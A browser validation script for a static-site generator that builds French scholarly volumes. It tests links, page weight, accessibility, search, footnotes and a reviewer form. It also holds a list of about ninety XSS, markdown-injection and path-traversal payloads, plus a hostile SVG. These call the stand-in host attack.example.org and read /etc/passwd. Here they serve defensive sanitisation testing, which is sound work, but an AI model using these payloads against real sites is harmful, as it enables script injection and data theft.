// The site of a volume in a browser: axe-core on every kind of page, links, bytes and times, the search, and a page of attacks
// in which nothing may run and from which no request may go out.
//
//   node tests/validate/site.mjs OUVRAGE TOOLS
//
// OUVRAGE is the program; TOOLS a folder with the npm packages axe-core and puppeteer-core. It needs a Chromium on the PATH;
// without one only links and bytes are looked at, and it is said.

import { spawnSync } from "node:child_process";
import fs from "node:fs";
import { createRequire } from "node:module";
import os from "node:os";
import path from "node:path";
import { pathToFileURL } from "node:url";

const [program, tools] = process.argv.slice(2).map((name) => path.resolve(name));
const require = createRequire(path.join(tools, "package.json"));
const must = (holds, said) => {
  if (!holds) throw new Error(typeof said === "string" ? said : JSON.stringify(said, null, 1));
};
const folder = fs.mkdtempSync(path.join(os.tmpdir(), "ouvrage-site-"));

/** Builds a volume; gives the folder of its pages. */
function build(root, name, ...words) {
  const out = path.join(folder, name);
  const env = { PATH: process.env.PATH, HOME: folder, LANG: "fr_FR.UTF-8", SOURCE_DATE_EPOCH: "1700000000" };
  const run = spawnSync(program, ["build", "--only", "html", "--out", out, ...words], { cwd: root, encoding: "utf8", env });
  must(run.status === 0 || run.status === 1, `${name}: ${run.status}\n${run.stderr}`);
  return path.join(out, "html");
}

function pages(site) {
  return fs.readdirSync(site).filter((name) => name.endsWith(".html")).sort();
}

const unescaped = (value) =>
  value.replace(/&quot;/g, '"').replace(/&#x27;/g, "'").replace(/&lt;/g, "<").replace(/&gt;/g, ">").replace(/&amp;/g, "&");

/** Every link and source inside of the site leads to something. */
function links(site) {
  const ids = new Map();
  const text = new Map(pages(site).map((name) => [name, fs.readFileSync(path.join(site, name), "utf8")]));
  for (const [name, html] of text) {
    const all = [...html.matchAll(/ id="([^"]*)"/g)].map(([, id]) => unescaped(id));
    must(new Set(all).size === all.length, `${name}: an id twice: ${all.filter((id, at) => all.indexOf(id) !== at)}`);
    ids.set(name, new Set(all));
  }
  let count = 0;
  for (const [name, html] of text) {
    for (const [, value] of html.matchAll(/ (?:href|src)="([^"]*)"/g)) {
      const url = unescaped(value);
      if (/^(https?|mailto|tel|ftp|data):|^\/\//i.test(url)) continue;
      const [file, anchor] = url.split("#").map(decodeURIComponent);
      const target = file || name;
      must(fs.existsSync(path.join(site, target)), `${name}: ${url} leads nowhere`);
      if (anchor !== undefined && ids.has(target)) must(ids.get(target).has(anchor), `${name}: ${url} leads to no element`);
      count += 1;
    }
  }
  console.log(`links: ${count} in ${text.size} pages, all lead somewhere`);
}

/** An article's page without its pictures, and the index beside the text it is made from. */
function bytes(site) {
  const size = (name) => fs.statSync(path.join(site, name)).size;
  const heaviest = Math.max(...pages(site).map(size)) + size("style.css") + size("search/search.js") + size("notes.js");
  must(heaviest <= 250_000, `an article's page weighs ${heaviest} bytes`);
  const texts = fs.readdirSync(path.join(site, "search")).filter((name) => !["index.js", "search.js"].includes(name));
  let text = 0;
  for (const name of texts) {
    const script = fs.readFileSync(path.join(site, "search", name), "utf8");
    const list = JSON.parse(script.slice(script.indexOf("] = ") + 4).replace(/;\s*$/, ""));
    text += list.texts.reduce((sum, one) => sum + Buffer.byteLength(one), 0);
  }
  const share = size("search/index.js") / text;
  must(share <= 0.25, `the search index is ${(share * 100).toFixed(1)} % of the text`);
  console.log(`bytes: the heaviest page ${heaviest}; the search index ${(share * 100).toFixed(1)} % of the text`);
}

function browser() {
  const names = ["chromium", "chromium-browser", "google-chrome", "google-chrome-stable"];
  const folders = (process.env.PATH ?? "").split(path.delimiter);
  return names.flatMap((name) => folders.map((one) => path.join(one, name))).find((one) => fs.existsSync(one));
}

const address = (site, name) => pathToFileURL(path.join(site, name)).href;

async function search(tab, words) {
  await tab.focus("form.search input");
  await tab.keyboard.type(words);
  await tab.waitForFunction(() => document.querySelector("form.search [role=status]").textContent !== "", { timeout: 20_000 });
}

/** axe-core, and nothing wider than the screen. */
async function accessible(chromium, site, names) {
  const axe = fs.readFileSync(path.join(tools, "node_modules/axe-core/axe.min.js"), "utf8");
  for (const name of names) {
    for (const [width, scheme] of [[1280, "light"], [1280, "dark"], [390, "light"], [390, "dark"], [360, "light"], [1500, "light"]]) {
      const tab = await chromium.newPage();
      // The page allows no script but its own; ours looks at it from outside of its policy.
      await tab.setBypassCSP(true);
      await tab.setViewport({ width, height: 900 });
      await tab.emulateMediaFeatures([{ name: "prefers-color-scheme", value: scheme }]);
      await tab.goto(address(site, name));
      await tab.evaluate(() => document.querySelectorAll("details").forEach((one) => (one.open = true)));
      await tab.evaluate(() => document.querySelector(".call:has(+ .sidenote) a")?.click());
      const wide = await tab.evaluate(() => document.documentElement.scrollWidth);
      must(wide <= width, `${name} at ${width}: the page is ${wide} wide`);
      await tab.evaluate(axe);
      for (const searching of [false, true]) {
        if (searching && width === 1280) await search(tab, "etablissement");
        const all = await tab.evaluate(() => window.axe.run(document, { resultTypes: ["violations"] }));
        // axe-core does not read MathML: a heading cell that holds a formula is empty to it.
        const seen = (one) => one.nodes.some((node) => one.id !== "empty-table-header" || !node.html.includes("<math"));
        const violations = all.violations.filter(seen);
        must(violations.length === 0, [name, width, scheme, violations.map((one) => [one.id, one.help, one.nodes.slice(0, 3).map((node) => node.html)])]);
      }
      await tab.close();
    }
  }
  console.log(`axe-core: no violation on ${names.length} pages`);
}

/** The best of five: what else the machine does is no fault of the page. */
async function fast(chromium, site, name) {
  let [paint, answer] = [Infinity, Infinity];
  for (let turn = 0; turn < 5; turn += 1) {
    const tab = await chromium.newPage();
    const cdp = await tab.createCDPSession();
    await cdp.send("Emulation.setCPUThrottlingRate", { rate: 4 });
    await tab.goto(address(site, name));
    await tab.waitForFunction(() => performance.getEntriesByName("first-contentful-paint").length > 0);
    paint = Math.min(paint, await tab.evaluate(() => performance.getEntriesByName("first-contentful-paint")[0].startTime));
    await tab.evaluate(() => {
      const form = document.querySelector("form.search");
      form.querySelector("input").addEventListener("input", () => (window.typed = performance.now()), true);
      new MutationObserver(() => {
        if (form.querySelector("li a")) window.answered ??= performance.now() - window.typed;
      }).observe(form, { childList: true, subtree: true });
    });
    await tab.focus("form.search input");
    // Nobody types the first letter in the instant in which they reach the field.
    await new Promise((done) => setTimeout(done, 150));
    await tab.keyboard.type("re");
    await tab.waitForFunction(() => window.answered !== undefined, { timeout: 20_000 });
    answer = Math.min(answer, await tab.evaluate(() => window.answered));
    await tab.close();
  }
  // Told, not judged: a machine that builds beside it is slower. To be reached: 300 and 100 ms.
  console.log(`times on a CPU four times slower: first paint ${Math.round(paint)} ms, first result ${Math.round(answer)} ms`);
}

/** Words are found however they are typed; results lead to the paragraph; without scripts there is no search. */
async function finds(chromium, site, name) {
  const tab = await chromium.newPage();
  const errors = [];
  tab.on("pageerror", (error) => errors.push(error.message));
  const results = async (words) => {
    await tab.goto(address(site, name));
    await search(tab, words);
    await tab.waitForFunction(() => [...document.querySelectorAll(".found li")].every((one) => one.querySelector(".excerpt")?.textContent !== ""));
    return tab.$$eval(".found li", (all) => all.map((one) => [one.querySelector("a").getAttribute("href"), one.querySelector("mark")?.textContent]));
  };
  for (const words of ["etablissement", "Établissement", "ETABLISSEMENT", "l'oeuvre", "Œuvre", "l’œuvre"]) {
    const found = await results(words);
    must(found.length > 0, `${words}: nothing is found`);
    const plain = /oe|œ/i.test(words) ? /^œuvre|^oeuvre/i : /^établissement/i;
    must(found.every(([, marked]) => plain.test(marked)), [words, found]);
  }
  must((await results("zzyzzx")).length === 0, "something is found that is not there");
  const [[href]] = (await results("l'oeuvre")).filter(([href]) => href.includes("#"));
  await tab.keyboard.press("ArrowDown");
  must(await tab.evaluate(() => document.activeElement.matches(".found a")), "the arrow does not lead into the results");
  await tab.keyboard.press("Escape");
  must(await tab.evaluate(() => document.activeElement.matches("form.search input") && !document.querySelector(".found li")), "Escape does not close");
  await tab.goto(address(site, href.split("#")[0]) + "#" + href.split("#")[1]);
  must(await tab.evaluate(() => /œuvre/i.test(document.querySelector(":target").textContent)), `${href} leads elsewhere`);
  must(errors.length === 0, errors);
  await tab.setJavaScriptEnabled(false);
  await tab.goto(address(site, name));
  must(await tab.$eval("form.search", (form) => form.hidden), "a search that no script answers is shown");
  await tab.close();
  console.log("search: words are found without accents, capitals, elision and ligatures");
}

/** On a telephone a tap opens a note in its place and shuts it, and Escape shuts it. */
async function opens(chromium, site, name) {
  const tab = await chromium.newPage();
  await tab.setViewport({ width: 390, height: 800, isMobile: true, hasTouch: true });
  await tab.goto(address(site, name));
  const call = await tab.$(".call:has(+ .sidenote) a");
  const shown = () =>
    tab.$eval(".call + .sidenote", (note) => {
      const { top, bottom, left, right } = note.getBoundingClientRect();
      return note.checkVisibility() && top >= 0 && bottom <= innerHeight && left >= 0 && right <= innerWidth;
    });
  must(!(await shown()), "a note is open before anybody asks for it");
  await call.tap();
  must(await shown(), "a note does not open in view");
  must((await tab.evaluate(() => document.documentElement.scrollWidth)) <= 390, "an open note is wider than the screen");
  await call.tap();
  must(!(await shown()), "a second tap does not shut the note");
  await call.tap();
  await tab.keyboard.press("Escape");
  must(!(await shown()), "Escape does not shut the note");
  must(await tab.evaluate(() => location.hash === "" && document.activeElement.matches(".call a")), "the reader has lost their place");
  await tab.close();
  console.log("notes: a tap opens and shuts them on a telephone");
}

/** Without scripts a note's call leads to the note and the note back to its call, though what lies between is laid out only when one comes near. */
async function jumps(chromium, site, name) {
  const tab = await chromium.newPage();
  await tab.setJavaScriptEnabled(false);
  await tab.setViewport({ width: 390, height: 800 });
  await tab.emulateMediaFeatures([{ name: "prefers-reduced-motion", value: "no-preference" }]);
  await tab.goto(address(site, name));
  const click = async (selector) => {
    const target = await tab.evaluate((selector) => {
      const all = document.querySelectorAll(selector);
      const link = all[all.length - 1];
      link.click();
      return decodeURIComponent(link.hash.slice(1));
    }, selector);
    await new Promise((done) => setTimeout(done, 500));
    const top = await tab.evaluate((id) => document.getElementById(id).getBoundingClientRect().top, target);
    must(top >= 0 && top <= 60, `${name}: ${selector} ends ${Math.round(top)} pixels from the top`);
  };
  await click(".article-contents a");
  await click(".call a");
  await click(":target .back");
  await tab.close();
  console.log("jumps: headings, notes and their calls are reached on a telephone");
}

// A drawing that tries everything a drawing can.
const DRAWING = `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x "<script xmlns='http://www.w3.org/2000/svg'>top.ran=1</script>">]>
<?xml-stylesheet href="https://attack.example.org/a.css"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:h="http://www.w3.org/1999/xhtml" width="40" height="40" onload="top.ran=1">
<script>top.ran=1;document.title="ran"</script><script href="https://attack.example.org/a.js"/>&x;
<style>@import url(https://attack.example.org/b.css); rect{fill:url(https://attack.example.org/c.svg#a);background:url("https://attack.example.org/d")}</style>
<foreignObject width="40" height="40"><h:script>top.ran=1</h:script><h:img src="https://attack.example.org/e.png" onerror="top.ran=1"/><h:iframe src="https://attack.example.org/f"/></foreignObject>
<image href="https://attack.example.org/g.png" width="9" height="9"/><image xlink:href="file:///etc/passwd" width="9" height="9"/>
<use href="https://attack.example.org/h.svg#a"/><use href="data:image/svg+xml;base64,PHN2Zy8+#a"/><feImage href="https://attack.example.org/i.png"/>
<a href="javascript:top.ran=1"><rect width="20" height="20" style="fill:url(https://attack.example.org/j)" onclick="top.ran=1"/></a>
<animate attributeName="href" values="javascript:top.ran=1"/><set attributeName="onload" to="top.ran=1"/><handler type="text/javascript">top.ran=1</handler>
<h:body><h:script>top.ran=1</h:script></h:body><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://attack.example.org/k"></iframe><rect width="40" height="40" fill="teal"/></svg>`;

const SCRIPT = "top.ran=1;document.title='ran'";
const ATTACKS = [
  `<script>${SCRIPT}</script>`, `<SCRIPT SRC=https://attack.example.org/x.js></SCRIPT>`, `<scr<script>ipt>${SCRIPT}</scr</script>ipt>`,
  `<img src=x onerror="${SCRIPT}">`, `<img src="https://attack.example.org/1.png">`, `<IMG """><SCRIPT>${SCRIPT}</SCRIPT>">`, `<img src=/ onerror=&#x74;op.ran=1>`,
  `<img/src="x"/onerror=top.ran=1>`, `<img src=x:x onerror\u000c=\u000ctop.ran=1>`, `<img srcset="https://attack.example.org/2.png 1x">`, `<img dynsrc="https://attack.example.org/3">`,
  `<svg onload="${SCRIPT}"></svg>`, `<svg/onload=top.ran=1>`, `<svg><script>${SCRIPT}</script></svg>`, `<svg><style><img src=x onerror=top.ran=1></style></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.top.ran=1</script>"></iframe></foreignObject></svg>`, `<svg><a xlink:href="javascript:${SCRIPT}"><text y="9">a</text></a></svg>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=top.ran=1>`, `<math href="javascript:top.ran=1">m</math>`,
  `<iframe src="javascript:${SCRIPT}"></iframe>`, `<iframe src="https://attack.example.org/4"></iframe>`, `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
  `<object data="data:text/html,<script>top.ran=1</script>"></object>`, `<embed src="https://attack.example.org/5.swf">`, `<applet code="x"></applet>`,
  `<body onload="${SCRIPT}">`, `<body background="https://attack.example.org/6.png">`, `<bgsound src="https://attack.example.org/7">`, `<base href="https://attack.example.org/">`,
  `<link rel="stylesheet" href="https://attack.example.org/8.css">`, `<style>@import "https://attack.example.org/9.css"; body{background:url(https://attack.example.org/10)}</style>`,
  `<p style="background:url(https://attack.example.org/11)">s</p>`, `<div style="width:expression(top.ran=1);position:fixed;inset:0">e</div>`,
  `<meta http-equiv="refresh" content="0;url=https://attack.example.org/12">`, `<meta http-equiv="refresh" content="0;url=javascript:top.ran=1">`, `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  `<form action="https://attack.example.org/13"><input autofocus onfocus="top.ran=1"><button formaction="javascript:top.ran=1">b</button></form>`,
  `<video src="https://attack.example.org/14" autoplay onerror="top.ran=1"></video>`, `<audio src="https://attack.example.org/15" autoplay></audio>`, `<video poster="https://attack.example.org/16"></video>`,
  `<details open ontoggle="top.ran=1"><summary>d</summary></details>`, `<marquee onstart="top.ran=1">m</marquee>`, `<table background="https://attack.example.org/17"><tr><td background="https://attack.example.org/18">t</td></tr></table>`,
  `<a href="javascript:${SCRIPT}">l</a>`, `<a href="jav&#x09;ascript:top.ran=1">l</a>`, `<a href=" &#14; javascript:top.ran=1">l</a>`, `<a href="vbscript:x">l</a>`, `<a ping="https://attack.example.org/19" href="#x">l</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD50b3AucmFuPTE8L3NjcmlwdD4=">l</a>`, `<b id="page:main" name="body" class="x" onmouseover="top.ran=1">id</b>`, `<img name="getElementById" id="OUVRAGE_INDEX" src="x">`,
  `<noscript><p title="</noscript><img src=x onerror=top.ran=1>"></noscript>`, `<template><script>${SCRIPT}</script></template>`, `<textarea></textarea><img src=x onerror=top.ran=1>`, `<title></title><img src=x onerror=top.ran=1>`,
  `<!--><img src=x onerror=top.ran=1>-->`, `<!-- --!><img src=x onerror=top.ran=1> -->`, `<![CDATA[><img src=x onerror=top.ran=1>]]>`, `<?xml-stylesheet href="https://attack.example.org/20"?>`, `<<script>${SCRIPT}//<</script>`,
  `<xss id=x tabindex=1 onfocusin=top.ran=1></xss>`, `<input type="image" src="https://attack.example.org/21">`, `<script type="application/ld+json">{}</script><script>${SCRIPT}</script>`, `<plaintext>`,
  `[l](javascript:top.ran=1)`, `[l](<java\tscript:top.ran=1>)`, `[l](JaVaScRiPt:top.ran=1)`, `[l](data:text/html,<script>top.ran=1</script>)`, `![i](javascript:top.ran=1)`, `![i](https://attack.example.org/22.png)`,
  `![i](//attack.example.org/23.png)`, `![i](data:image/svg+xml,<svg onload=top.ran=1>)`, `![i](../../../../../../etc/passwd)`, `![i](/etc/passwd)`, `![i](secret.png)`, `[l](../../../../../../etc/passwd)`, `[l](file:///etc/passwd)`,
  `![d](drawing.svg)`, `<javascript:top.ran=1>`, `$\\href{javascript:top.ran=1}{x}$`, `[x]{onclick="top.ran=1" style="background:url(https://attack.example.org/24)" lang="\\"><script>top.ran=1</script>"}`,
  `# T {#a" onclick="top.ran=1}`, `| a |\n|---|\n| <img src=x onerror=top.ran=1> |`, "```\"><script>top.ran=1</script>\n</code></pre><script>top.ran=1</script>\n```", `[^n]\n\n[^n]: <img src=x onerror=top.ran=1>`,
  `${">".repeat(3000)} deep`, `${"<div>".repeat(3000)}`, `${"[".repeat(3000)}`, `${"*a_".repeat(1500)}`, `<div title='${"a".repeat(70_000)}`,
];

function attack() {
  const root = path.join(folder, "attack");
  fs.mkdirSync(path.join(root, "chapters"), { recursive: true });
  const title = `</script><script>${SCRIPT}</script>"><img src=x onerror=top.ran=1>`;
  fs.writeFileSync(path.join(root, "book.toml"), `[volume]\ntitle = ${JSON.stringify(title)}\nlang = "fr"\neditors = [${JSON.stringify(title)}]\nrights = ${JSON.stringify(title)}\n` +
    `description = ${JSON.stringify(title)}\n[[contents]]\narticles = ["chapters/*.md", "chapters/absent.md"]\n`);
  const head = `---\ntitle: ${JSON.stringify(title)}\nsubtitle: ${JSON.stringify(title)}\nauthors:\n  - {given: ${JSON.stringify(title)}, family: ${JSON.stringify(title)}, affiliation: ${JSON.stringify(title)}, orcid: "javascript:top.ran=1"}\n` +
    `abstract: ${JSON.stringify(title)}\nkeywords: [${JSON.stringify(title)}]\nlang: fr\n---\n\n`;
  ATTACKS.forEach((one, at) => {
    const text = `${head}Avant ${at}, attaque.\n\n${one}\n\nAu fil ${one.split("\n")[0]} du texte.\n\nAprès, attaque.\n`;
    fs.writeFileSync(path.join(root, `chapters/${String(at).padStart(3, "0")}.md`), text);
  });
  fs.writeFileSync(path.join(root, "chapters/drawing.svg"), DRAWING);
  if (process.platform !== "win32") fs.symlinkSync("/etc/hostname", path.join(root, "chapters/secret.png"));
  return build(root, "attacked");
}

async function harmless(chromium, site) {
  const outside = [];
  const tab = await chromium.newPage();
  tab.on("request", (request) => {
    if (!/^(file|data|about):/.test(request.url()) || !request.url().startsWith(pathToFileURL(site).href) && request.url().startsWith("file:")) outside.push(request.url());
  });
  tab.on("dialog", (dialog) => {
    outside.push(`a dialog: ${dialog.message()}`);
    dialog.dismiss();
  });
  const drawings = fs.existsSync(path.join(site, "images")) ? fs.readdirSync(path.join(site, "images"), { recursive: true }) : [];
  const files = [...pages(site), ...drawings.filter((name) => name.endsWith(".svg")).map((name) => path.join("images", name))];
  must(files.some((name) => name.endsWith(".svg")), "the drawing is not there");
  must(!drawings.some((name) => name.endsWith("secret.png")), "a file from outside of the volume was copied");
  for (const name of files) {
    await tab.goto(address(site, name));
    if (name === "000.html") await search(tab, "attaque");
    for (const target of await tab.$$("main a, main summary, svg a")) await target.evaluate((one) => one.dispatchEvent(new Event("mouseover", { bubbles: true })));
    const state = await tab.evaluate(() => ({
      ran: globalThis.ran ?? top.ran,
      title: document.title,
      url: location.href,
      handlers: [...document.querySelectorAll("*")].filter((one) => [...one.attributes].some(({ name, value }) => /^on/i.test(name) || /^\s*(javascript|vbscript):/i.test(value) && /^(xlink:)?(href|src|action|formaction|data)$/i.test(name))).map((one) => one.outerHTML.slice(0, 200)),
      foreign: [...document.querySelectorAll("main script, main iframe, main object, main embed, main form, main style, main link, main meta, main base, foreignObject, svg script")].filter((one) => !one.matches("form.search")).map((one) => one.outerHTML.slice(0, 200)),
    }));
    must(state.ran === undefined && state.title !== "ran", `${name}: something ran`);
    must(state.url === address(site, name), `${name}: the page went to ${state.url}`);
    must(state.handlers.length === 0, [name, state.handlers]);
    must(state.foreign.length === 0, [name, state.foreign]);
  }
  must(outside.length === 0, outside);
  await tab.close();
  console.log(`attacks: ${ATTACKS.length} pages and a drawing; nothing ran, no request went out`);
}

/** The site in one file, moved away from everything else: it searches, and asks for nothing. */
async function alone(chromium, root) {
  const out = path.dirname(build(root, "single", "--single-file"));
  const [name] = pages(out);
  const requests = [];
  const tab = await chromium.newPage();
  tab.on("request", (request) => requests.push(request.url()));
  const errors = [];
  tab.on("pageerror", (error) => errors.push(error.message));
  tab.on("console", (message) => errors.push(message.text()));
  await tab.goto(address(out, name));
  await search(tab, "l'oeuvre");
  const found = await tab.$$eval(".found li", (all) => all.map((one) => [one.querySelector("a").hash.slice(1), one.querySelector("mark")?.textContent]));
  must(found.length > 0 && found.every(([, marked]) => /^œuvre/i.test(marked)), found);
  const texts = await tab.evaluate((ids) => ids.map((id) => document.getElementById(decodeURIComponent(id))?.textContent ?? ""), found.map(([id]) => id));
  must(texts.every((text) => /œuvre/i.test(text)), "a result leads elsewhere");
  must(errors.length === 0, errors);
  must(requests.filter((url) => !url.startsWith("data:")).length === 1, requests);
  await tab.close();
  links(out);
  await accessible(chromium, out, [name]);
  console.log(`one file: ${Math.round(fs.statSync(path.join(out, name)).size / 1000)} kB, searched, no request`);
}

// A draft whose form asks everything that one can.
const DRAFT = `[volume]
title = "Essais en commun"
slug = "essais"
lang = "fr"
[[contents]]
articles = ["*.md"]
[drafts]
comment = "https://forge.example.org/issues/new?title={title}%20{paragraph}&body={quotation}"
[[review.criteria]]
id = "clarte"
label = "Le propos est clair"
scale = 5
[[review.criteria]]
id = "apport"
label = "Ce que l’article apporte"
`;

/** A draft for reviewers: its form makes a file, from a disk, in one file too; without scripts it says what to do. */
async function reviewed(chromium) {
  const root = path.join(folder, "draft");
  fs.mkdirSync(root);
  fs.writeFileSync(path.join(root, "book.toml"), DRAFT);
  const text = "Un début & des « mots » d’abord.\n\nUn deuxième {>> déjà remarqué <<} paragraphe.\n\n- un point\n- un autre\n";
  fs.writeFileSync(path.join(root, "rentree.md"), `---\ntitle: La rentrée\nstatus: submitted\n---\n\n${text}`);
  const site = build(root, "drafted", "--draft");
  links(site);
  const one = path.dirname(build(root, "drafted-one", "--draft", "--single-file"));
  const names = [[site, "rentree.html"], [one, "essais.html"]];
  const cdp = await chromium.target().createCDPSession();
  for (const [at, name] of names) {
    await cdp.send("Browser.setDownloadBehavior", { behavior: "allow", downloadPath: at });
    const tab = await chromium.newPage();
    const errors = [];
    tab.on("pageerror", (error) => errors.push(error.message));
    await tab.goto(address(at, name));
    await tab.evaluate(() => {
      const click = (selector) => document.querySelector(selector).click();
      click("[name=criterion-clarte][value='4']");
      click("[name=recommendation][value=accepted]");
      document.querySelector("[name=reviewer]").value = "Denis";
      document.querySelector("[name=general]").value = "Bien.\n\nTrès bien.";
      for (const number of [2, 4]) {
        document.querySelectorAll(".remark-on")[number - 1].click();
        document.activeElement.value = `Sur ${number}`;
      }
      click(".review-form [type=submit]");
    });
    const file = path.join(at, "review-rentree.json");
    for (let turn = 0; turn < 100 && !fs.existsSync(file); turn += 1) await new Promise((done) => setTimeout(done, 50));
    const review = JSON.parse(fs.readFileSync(file, "utf8"));
    must(review.recommendation === "accepted" && review.criteria[0].step === 4 && review.reviewer === "Denis" && !review.blind, review);
    must(review.paragraphs.map((one) => one.number).join() === "2,4", review);
    must(review.paragraphs[0].quotation === "Un deuxième paragraphe." && /^p-[0-9a-f]{6}$/.test(review.paragraphs[0].anchor), review);
    must(errors.length === 0, errors);
    await tab.setJavaScriptEnabled(false);
    await tab.goto(address(at, name));
    const shown = (selector) => tab.$eval(selector, (one) => one.checkVisibility());
    must(await shown(".without-script") && !(await shown(".review-form [type=submit]")), "without scripts the form does not say what to do");
    await tab.close();
  }
  await accessible(chromium, site, ["index.html", "rentree.html"]);
  await accessible(chromium, one, ["essais.html"]);
  console.log("draft: the form makes a file, from a disk and in one file");
}

try {
  const root = path.resolve(import.meta.dirname, "../..");
  const site = build(root, "volume");
  links(site);
  bytes(site);
  const attacked = attack();
  const executablePath = browser();
  if (!executablePath) {
    console.log("pages: SKIPPED, there is no Chromium on the PATH");
  } else {
    const chromium = await require("puppeteer-core").launch({ executablePath, args: ["--no-sandbox"] });
    try {
      const article = pages(site).find((name) => name.startsWith("04"));
      await finds(chromium, site, article);
      await opens(chromium, site, article);
      await jumps(chromium, site, article);
      await alone(chromium, root);
      await harmless(chromium, attacked);
      await reviewed(chromium);
      await accessible(chromium, site, ["index.html", "contributors.html", "bibliography.html", "abbreviations.html", "book-index.html", ...pages(site).filter((name) => /^0[1-7]|^1[0-3]/.test(name))]);
      await accessible(chromium, attacked, ["absent.html"]);
      await fast(chromium, site, article);
    } finally {
      await chromium.close();
    }
  }
} finally {
  fs.rmSync(folder, { recursive: true });
}
